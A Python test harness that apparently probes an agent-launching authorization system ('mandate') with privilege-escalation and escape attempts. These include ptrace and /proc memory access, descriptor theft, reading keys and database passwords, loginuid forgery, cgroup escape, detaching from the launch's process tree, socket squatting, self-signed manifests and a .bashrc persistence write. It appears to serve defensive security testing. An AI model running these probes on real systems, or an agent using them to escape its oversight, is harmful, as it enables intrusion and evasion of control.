"""A launched agent tries to become more than it is: to administer, or to reach what the issuer lives on. One deed each."""

import ctypes
import glob
import json
import os
import pty
import re
import signal
import socket
import subprocess
import sys
import time

from attacker import HERE, answer, argument, ask, call, connect, failed_call, libc, opening, say

MANDATE = os.environ["ATTACK_MANDATE"]
STATE = os.environ["ATTACK_STATE"]
SERVER = int(os.environ["ATTACK_SERVER_PID"])
NODE = int(os.environ["ATTACK_NODE_PID"])
PTRACE_SEIZE, PIDFD_OPEN, PIDFD_GETFD, VM_READV = 0x4206, 434, 438, 310
PR_SET_CHILD_SUBREAPER = 36
# It would be nobody's: that it can be put in force is what counts, and later cases are not to be changed by it.
RULE = {
    "apiVersion": "mandate/v1",
    "kind": "Rule",
    "name": "promoted",
    "match": {"user.uid": "4000000000"},
    "issue": {"id": "/promoted"},
}


def cli(*arguments):
    """Runs a command of ours and says how it ended."""
    done = subprocess.run([MANDATE, *arguments], stdin=subprocess.DEVNULL, capture_output=True, text=True)
    if done.returncode == 0:
        return say(deed="mandate " + " ".join(arguments[:2]))
    codes = re.findall(r"E_[A-Z_]+", done.stdout + done.stderr)
    if codes:
        return say(code=codes[0])
    say(nothing=(done.stderr.strip().splitlines() or ["?"])[0])


def rule_file():
    with open("promoted.yaml", "w") as file:
        json.dump(RULE, file)
    return os.path.abspath("promoted.yaml")


def apply_rule():
    cli("rules", "apply", rule_file())


def terminal(*command):
    """Runs a command on a terminal of its own. Returns what appeared there."""
    pid, ours = pty.fork()
    if pid == 0:
        os.execv(command[0], command)
    text = b""
    try:
        while chunk := os.read(ours, 4096):
            text += chunk
    except OSError:
        pass
    os.waitpid(pid, 0)
    return text.decode()


def pass_on(text):
    """Says what another attacker said, among whatever else."""
    lines = [line.strip() for line in text.splitlines() if line.startswith('{"')]
    os.write(1, (lines[0] + "\n").encode()) if lines else say(nothing=text[:200])


def terminal_apply():
    pass_on(terminal(sys.executable, os.path.abspath(__file__), "apply_rule"))


def deep_apply():
    """Stands below more ancestors than are followed."""
    for _ in range(80):
        child = os.fork()
        if child != 0:
            os.waitpid(child, 0)
            os._exit(0)
    apply_rule()


def add_manifest():
    """A manifest of its own making, trusted by a key of its own."""
    pair = "const k=require('crypto').generateKeyPairSync('ed25519');const w=require('fs').writeFileSync;w('k.pem',k.privateKey.export({type:'pkcs8',format:'pem'}));w('k.pub',k.publicKey.export({type:'spki',format:'pem'}))"
    subprocess.run([os.environ["ATTACK_NODE"], "-e", pair], check=True)
    sign = [MANDATE, "manifest", "sign", "--name", "planted", "--release", "1=/bin/true", "--key", "k.pem", "-o", "json"]
    with open("planted.json", "wb") as file:
        subprocess.run(sign, stdout=file, check=True)
    cli("manifest", "add", "planted.json", "--key", "k.pub")


def stop_agent():
    cli("agents", "stop", os.environ["ATTACK_VICTIM"], "-y")


def config_file():
    """Puts a configuration of its own where the next start reads one, as whoever may write to the folder can."""
    name = os.environ["MANDATE_CONFIG"]
    os.rename(name, name + ".away")
    os.rename(name + ".away", name)
    say(deed="may replace mandate.yaml")


def own_group():
    """Leaves its control group for the one above, for that of the machine, or for a neighbour's."""
    with open("/proc/self/mountinfo") as file:
        mount = next(line.split()[4] for line in file if " - cgroup2 " in line)
    with open("/proc/self/cgroup") as file:
        mine = mount + next(line[3:].strip() for line in file if line.startswith("0::"))
    above = os.path.dirname(mine) if mine != mount else mount
    tried = "no other group"
    beside = (entry.path for entry in os.scandir(above) if entry.is_dir())
    for group in sorted({mount, above, *beside} - {mine}):
        try:
            with open(os.path.join(group, "cgroup.procs"), "w") as file:
                file.write(str(os.getpid()))
            return say(deed="moved to another control group")
        except OSError as error:
            tried = error.strerror
    say(nothing=tried)


def by_tmux():
    """Has a tmux that ran before the launch do it, on a terminal of that."""
    tmux = ["tmux", "-S", os.environ["ATTACK_BROKER"]]
    deed = f'"{sys.executable}" "{os.path.abspath(__file__)}" apply_rule > by-tmux 2>&1; {" ".join(tmux)} wait-for -S done'
    subprocess.run([*tmux, "new-window", deed], check=True)
    subprocess.run([*tmux, "wait-for", "done"], check=True)
    with open("by-tmux") as file:
        pass_on(file.read())


def handed_to(*broker):
    """Has the deed done by who starts processes for this user, with the environment that it needs."""
    told = [f"{name}={value}" for name, value in os.environ.items() if name.startswith(("ATTACK_", "MANDATE_", "HOME"))]
    command = [*broker, "env", *told, sys.executable, os.path.abspath(__file__), "apply_rule"]
    done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True)
    pass_on(done.stdout + done.stderr)


def end_it():
    """Whoever ends it may not be allowed to see when it has ended; that the server goes is what counts."""
    done = subprocess.run([MANDATE, "down"], stdin=subprocess.DEVNULL, capture_output=True, text=True)
    codes = re.findall(r"E_[A-Z_]+", done.stdout + done.stderr)
    if codes and codes[0] != "E_TIMEOUT":
        return say(code=codes[0])
    say(deed="ended it") if not os.path.exists(f"/proc/{SERVER}") else say(nothing="it runs on")


def database_shell():
    cli("db", "psql", "--", "-c", "SELECT 1")


def migrate():
    cli("db", "migrate")


def read_first(pattern, mark):
    found = glob.glob(pattern)
    if not found:
        # What cannot be listed cannot be read: say why, as the kernel does.
        try:
            os.listdir(os.path.dirname(pattern))
        except OSError as error:
            return say(nothing=error.strerror)
        return say(nothing="no such file")
    with open(found[0]) as file:
        text = file.read()
    say(deed="read it") if mark in text else say(nothing="not what it is said to be")


def key_file():
    read_first(f"{STATE}/server/keys/*", "PRIVATE")


def secrets():
    read_first(f"{STATE}/secrets/owner", "")


def owner_of_database():
    with open(f"{STATE}/secrets/owner") as file:
        password = file.read().strip()
    environment = {**os.environ, "PGPASSWORD": password, "PGHOST": f"{STATE}/run/db", "PGUSER": "mandate_owner", "PGDATABASE": "mandate"}
    sql = "BEGIN; UPDATE rule SET name = name; ROLLBACK;"
    done = subprocess.run(["psql", "-Xqc", sql], env=environment, capture_output=True, text=True)
    say(deed="changed rules") if done.returncode == 0 else say(nothing=done.stderr.strip()[:200])


def other_role():
    """psql without a password, as any client that is allowed to connect."""
    command = ["psql", "-Xqwc", "SELECT 1", "-h", f"{STATE}/run/db", "-U", "mandate_reader", "mandate"]
    done = subprocess.run(command, capture_output=True, text=True)
    say(deed="reads the database") if done.returncode == 0 else say(nothing=done.stderr.strip().splitlines()[-1][:200])


def trace(pid):
    say(deed="attached") if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0 else say(nothing=failed_call("ptrace"))


def memory(pid):
    open(f"/proc/{pid}/mem", "rb").close()
    say(deed="opened its memory")


def descriptor(pid):
    handle = libc.syscall(PIDFD_OPEN, pid, 0)
    for number in range(64):
        if libc.syscall(PIDFD_GETFD, handle, number, 0) >= 0:
            return say(deed=f"took descriptor {number}")
    say(nothing=failed_call("pidfd_getfd"))


def environment_of(pid):
    with open(f"/proc/{pid}/environ", "rb") as file:
        say(deed=f"read {len(file.read())} bytes")


def debugger(pid):
    """A plain node opens a debugger on port 9229 when it gets SIGUSR1."""
    os.kill(pid, signal.SIGUSR1)
    end = time.monotonic() + 2
    while time.monotonic() < end:
        with open("/proc/net/tcp") as file:
            if any(line.split()[1].endswith(":240D") and line.split()[3] == "0A" for line in file.readlines()[1:]):
                return say(deed="a debugger listens")
        time.sleep(0.05)
    say(nothing="no debugger")


def plain_debugger():
    child = subprocess.Popen(["node", "-e", "console.log(1);setInterval(()=>0,1000)"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    try:
        child.stdout.readline()
        debugger(child.pid)
    finally:
        child.kill()


def write_state():
    with open(f"{STATE}/server/keys/planted", "w") as file:
        file.write("x")
    os.unlink(f"{STATE}/server/keys/planted")
    say(deed="wrote among the keys")


def squat():
    """Puts a socket of its own where agents look for the node."""
    name = f"{STATE}/run/agent/agent.sock"
    os.rename(name, name + ".away")
    try:
        mine = socket.socket(socket.AF_UNIX)
        mine.bind(name)
        os.unlink(name)
        say(deed="answers in place of the node")
    finally:
        os.rename(name + ".away", name)


def symlink():
    """Points a log file of the issuer somewhere else."""
    os.symlink("/dev/null", f"{STATE}/log/planted")
    os.unlink(f"{STATE}/log/planted")
    say(deed="planted a link among the logs")


def program():
    """Replaces the program that the next start runs."""
    os.close(os.open(MANDATE, os.O_WRONLY | os.O_APPEND))
    say(deed="may write to the program")


def stop_server():
    os.kill(SERVER, 0)
    say(deed="may signal it")


def invented():
    """Speaks to the server as the node does, with evidence of its own making."""
    hello = b"\x0a\x01x" + b"\x12\x01b" + b"\x1a\x01m" + b"\x22\x01h" + b"\x38" + bytes([1])
    message = b"\x08\x01" + b"\x1a" + bytes([len(hello)]) + hello
    connection = connect(f"{STATE}/run/link/link.sock")
    connection.sendall(opening() + call(1, b"/mandate.v1.NodeLink/Link", message, more=True))
    answer(connection)


def detached(deed):
    """Leaves the process tree of the launch first: no longer adopts orphans, then two forks and a session of its own, so that init is its parent."""
    libc.prctl(PR_SET_CHILD_SUBREAPER, 0, 0, 0, 0)
    hearing, telling = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.close(hearing)
            while os.getppid() != reaper():
                time.sleep(0.001)
            deed()
            os.write(telling, b"d")
        os._exit(0)
    os.close(telling)
    os.wait()
    os.read(hearing, 1)


def reaper():
    """Who adopts orphans here: init, unless a subreaper is nearer. Whoever it is, it is not the launch."""
    with open("/proc/self/stat") as file:
        parent = int(file.read().rsplit(")", 1)[1].split()[1])
    try:
        with open(f"/proc/{parent}/cmdline", "rb") as file:
            return -1 if b"promote.py" in file.read() else parent
    except FileNotFoundError:
        return -1


def broker(deed):
    """Hands the deed to a process that ran before the launch, as to a tmux server."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(os.environ["ATTACK_BROKER"])
        connection.sendall(deed.encode())
        answered = b""
        while chunk := connection.recv(4096):
            answered += chunk
    os.write(1, answered)


def serve():
    """The broker: carries out one deed for whoever asks."""
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(os.environ["ATTACK_BROKER"])
    listener.listen(1)
    say(deed="listens")
    connection, _ = listener.accept()
    done = subprocess.run([sys.executable, __file__, connection.recv(64).decode()], capture_output=True)
    connection.sendall(done.stdout)


def start_file():
    """Waits in the start file of the person's shell."""
    with open(os.path.join(os.environ["HOME"], ".bashrc"), "w") as file:
        file.write(f'"{sys.executable}" "{os.path.abspath(__file__)}" apply_rule\n')


def own_terminal():
    """Starts an agent of its own from a terminal of its own, for a rule that asks for a person's launch."""
    pass_on(terminal(MANDATE, "run", "--name", "own", "--", "/usr/bin/python3", os.path.join(HERE, "ask.py")))


def forged_login():
    """Says that somebody else logged in, and asks."""
    try:
        with open("/proc/self/loginuid", "w") as file:
            file.write("0")
    except OSError:
        pass
    ask(connect())


DEEDS = {
    "trace_server": lambda: trace(SERVER),
    "trace_node": lambda: trace(NODE),
    "memory_server": lambda: memory(SERVER),
    "memory_node": lambda: memory(NODE),
    "descriptor_server": lambda: descriptor(SERVER),
    "descriptor_node": lambda: descriptor(NODE),
    "environment_server": lambda: environment_of(SERVER),
    "debugger_server": lambda: debugger(SERVER),
    "debugger_node": lambda: debugger(NODE),
    "detached_apply": lambda: detached(apply_rule),
    "detached_terminal": lambda: detached(own_terminal),
    "detached_ask": lambda: detached(lambda: ask(connect())),
    "systemd_apply": lambda: handed_to("systemd-run", "--user", "--wait", "--pipe", "--quiet"),
    "ssh_apply": lambda: handed_to("ssh", "-o", "BatchMode=yes", "localhost"),
    "broker_apply": lambda: broker("apply_rule"),
    "broker_ask": lambda: broker("ask_plainly"),
    "ask_plainly": lambda: ask(connect()),
}

name = argument()
try:
    (DEEDS.get(name) or globals()[name])()
except OSError as error:
    say(nothing=error.strerror or str(error))
